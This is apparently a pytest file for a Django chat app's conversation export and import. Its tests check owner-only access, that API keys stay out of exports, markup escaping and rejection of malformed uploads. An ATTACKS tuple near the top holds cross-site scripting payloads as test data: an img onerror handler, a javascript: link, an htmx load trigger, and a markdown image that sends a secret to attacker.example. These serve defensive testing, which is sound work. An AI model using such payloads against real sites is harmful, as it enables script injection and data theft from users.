"""Export downloads and the import form: what the owner gets, and what nobody else does."""

from __future__ import annotations

import json
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from chat.conversations import imports
from chat.models import Conversation, Message

pytestmark = pytest.mark.django_db

API_BASE = "https://api.upstream-secret.example:8443/v1"
API_KEY = "sk-very-secret-key"
ATTACKS = (
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](https://attacker.example/p.png?q=secret)",
    '<div hx-get="/" hx-trigger="load">',
)


@pytest.fixture
def upstream_settings(settings):
    """A real upstream configured, whose URL and key must never reach an export."""
    settings.PLAYGROUND_API_BASE = API_BASE
    settings.PLAYGROUND_API_KEY = API_KEY
    return settings


@pytest.fixture
def conversation(alice):
    """A prompt answered twice in one batch, a follow-up under the second choice
    (the visible path), and an edited prompt in another branch."""
    conversation = Conversation.objects.create(
        owner=alice,
        title="Recursion: the basics!",
        system_prompt="Be brief.",
        started_at=timezone.now(),
        settings={"model": "kimi-k2-thinking", "temperature": 0.4, "stream": True},
    )
    user = Message.objects.create(conversation=conversation, role="user", content="Why?")
    first = _answer(conversation, user, "First answer.", choice_index=0)
    second = _answer(conversation, user, "Second answer.", choice_index=1, batch=first.batch)
    follow = Message.objects.create(
        conversation=conversation, parent=second, role="user", content="And then?"
    )
    Message.objects.create(conversation=conversation, role="user", content="Edited prompt")
    conversation.current_leaf = follow
    conversation.save()
    return conversation


def _answer(conversation, parent, content, **fields):
    return Message.objects.create(
        conversation=conversation,
        parent=parent,
        role="assistant",
        content=content,
        reasoning=f"Reasoning for {content}",
        model="kimi-k2-thinking",
        status="complete",
        finish_reason="stop",
        upstream="api.upstream-secret.example",
        error="Could not connect to api.upstream-secret.example:8443.",
        request_params={"model": "kimi-k2-thinking", "temperature": 0.4},
        usage={"completion_tokens": 5},
        sent_at=timezone.now(),
        finished_at=timezone.now(),
        **fields,
    )


def test_the_json_export_is_a_download_of_the_path_and_the_tree(alice_client, conversation):
    response = alice_client.get(f"/c/{conversation.pk}/export.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="recursion-the-basics.json"'
    data = json.loads(response.content)
    assert data["format"] == "reasoning-playground/1" and data["title"] == "Recursion: the basics!"
    assert [m["role"] for m in data["messages"]] == ["system", "user", "assistant", "user"]
    assert data["messages"][2] == {
        "role": "assistant",
        "content": "Second answer.",
        "reasoning_content": "Reasoning for Second answer.",
    }
    assert len(data["tree"]) == 5 and data["current_leaf"] == conversation.current_leaf_id
    answer = data["tree"][1]
    assert answer["request_params"] == {"model": "kimi-k2-thinking", "temperature": 0.4}
    assert answer["timings"]["sent_at"].startswith(str(timezone.now().year))


def test_the_markdown_export_is_a_download(alice_client, conversation):
    response = alice_client.get(f"/c/{conversation.pk}/export.md")
    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="recursion-the-basics.md"'
    text = response.content.decode()
    assert text.startswith("# Recursion: the basics!\n")
    assert "## You" in text and "## Assistant" in text and "\nSecond answer.\n" in text
    assert "<details><summary>Reasoning</summary>" in text and "| temperature | `0.4` |" in text
    assert "First answer." not in text and "Edited prompt" not in text


@pytest.mark.parametrize("kind", ["json", "md"])
def test_no_api_key_or_upstream_in_an_export(alice_client, conversation, upstream_settings, kind):
    text = alice_client.get(f"/c/{conversation.pk}/export.{kind}").content.decode()
    for secret in (API_KEY, API_BASE, "upstream-secret"):
        assert secret not in text


def test_an_untitled_conversation_downloads_with_a_plain_name(alice_client, alice):
    conversation = Conversation.objects.create(owner=alice, title="日本語")
    response = alice_client.get(f"/c/{conversation.pk}/export.json")
    assert response["Content-Disposition"] == 'attachment; filename="conversation.json"'


def test_the_json_export_escapes_markup(alice_client, conversation):
    conversation.title = ATTACKS[0]
    conversation.save()
    Message.objects.filter(conversation=conversation).update(content=" ".join(ATTACKS))
    text = alice_client.get(f"/c/{conversation.pk}/export.json").content.decode()
    assert "<" not in text and ">" not in text
    assert json.loads(text)["title"] == ATTACKS[0]


def test_the_markdown_export_leaves_no_attack_string_active(alice_client, conversation):
    conversation.title = ATTACKS[0]
    conversation.system_prompt = ATTACKS[3]
    conversation.save()
    Message.objects.filter(conversation=conversation).update(
        content=" ".join(ATTACKS), reasoning=" ".join(ATTACKS)
    )
    text = alice_client.get(f"/c/{conversation.pk}/export.md").content.decode()
    assert text.startswith("# \\<img src=x onerror=alert(1)\\>\n")
    # Every tag and image is escaped where it stands, so it shows as the text it was:
    # in the two prompts on the path, the answer and its reasoning.
    assert text.count("\\<img src=x onerror=alert(1)>") == 4
    assert text.count("\\![x](https://attacker.example") == 4
    unescaped = re.compile(r"(?<!\\)(<img|<div|!\[)")
    assert not unescaped.search(text)


@pytest.mark.parametrize("url", ["/c/{pk}/export.json", "/c/{pk}/export.md"])
@pytest.mark.parametrize("htmx", [False, True])
def test_bob_gets_404_for_alices_exports(client, bob, conversation, url, htmx):
    client.force_login(bob)
    headers = {"HX-Request": "true"} if htmx else {}
    response = client.get(url.format(pk=conversation.pk), headers=headers)
    assert response.status_code == 404
    # A POST is refused for everyone alike, before anything is looked up.
    response = client.post(url.format(pk=conversation.pk), headers=headers)
    assert response.status_code == 405
    assert conversation.messages.count() == 5


@pytest.mark.parametrize("url", ["/c/1/export.json", "/c/1/export.md", "/c/import/"])
def test_exports_and_import_need_login(client, url):
    response = client.get(url)
    assert response.status_code == 302 and response.url.startswith("/accounts/login/")


def test_the_import_form(alice_client):
    html = alice_client.get("/c/import/").content.decode()
    assert '<label for="import-file">Conversation file</label>' in html
    assert 'enctype="multipart/form-data"' in html and ">Import</button>" in html


def _upload(client, data: bytes, name="conversation.json"):
    return client.post("/c/import/", {"file": SimpleUploadedFile(name, data)})


def test_an_export_imports_back_with_every_branch(alice_client, alice, conversation):
    exported = alice_client.get(f"/c/{conversation.pk}/export.json").content
    response = _upload(alice_client, exported)
    copy = Conversation.objects.exclude(pk=conversation.pk).get(owner=alice)
    assert response.status_code == 302 and response.url == f"/c/{copy.pk}/"
    assert copy.title == conversation.title and copy.system_prompt == "Be brief."
    assert copy.settings["temperature"] == 0.4 and copy.started_at is not None
    original, imported = (list(c.messages.order_by("id")) for c in (conversation, copy))
    assert [m.content for m in imported] == [m.content for m in original]
    index = {m.pk: i for i, m in enumerate(original)}
    copied_index = {m.pk: i for i, m in enumerate(imported)}
    assert [index.get(m.parent_id) for m in original] == [
        copied_index.get(m.parent_id) for m in imported
    ]
    assert imported[1].batch == imported[2].batch != original[1].batch
    assert copy.current_leaf.content == "And then?" and copy.current_leaf.conversation == copy
    again = json.loads(alice_client.get(f"/c/{copy.pk}/export.json").content)
    first = json.loads(exported)
    assert again["messages"] == first["messages"]


def test_a_plain_messages_array_imports(alice_client, alice):
    document = [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What is a monad?"},
        {"role": "assistant", "content": "A burrito.", "reasoning_content": "Joke."},
    ]
    response = _upload(alice_client, json.dumps(document).encode())
    copy = Conversation.objects.get(owner=alice)
    assert response.url == f"/c/{copy.pk}/"
    assert copy.title == "What is a monad?" and copy.system_prompt == "Be brief."
    user, answer = copy.messages.order_by("id")
    assert answer.parent == user and answer.reasoning == "Joke." and copy.current_leaf == answer


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"{not json", "The file is not valid JSON"),
        (b'{"hello": "world"}', "Expected a Reasoning Playground export"),
        (b'[{"role": "wizard", "content": "x"}]', "role &quot;wizard&quot; cannot be imported"),
        (b'[{"role": "user", "content": {"x": 1}}]', "the content is not text"),
        (b"[" + b'{"role": "user", "content": "x"},' * 5_000 + b'{"role": "user", "content": "x"}]',
         "at most 5,000 can be imported"),
        (b" " * (imports.MAX_IMPORT_BYTES + 1), "larger than 2 MB"),
        (b'[{"role": "user", "content": "smile \\ud83d"}]', "half of a surrogate pair"),
        (b'{"format": "reasoning-playground/1", "title": "\\udc00", "tree": []}',
         "half of a surrogate pair"),
        (b'[{"role": "user", "content": "a\\u0000b"}]', "NUL character"),
    ],
)  # fmt: skip
def test_a_bad_file_gets_a_message_and_creates_nothing(alice_client, data, message):
    response = _upload(alice_client, data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert 'role="alert"' in response.content.decode()
    assert Conversation.objects.count() == 0 and Message.objects.count() == 0


def test_importing_without_a_file_says_so(alice_client):
    response = alice_client.post("/c/import/", {})
    assert response.status_code == 400 and "Choose a conversation file" in response.content.decode()
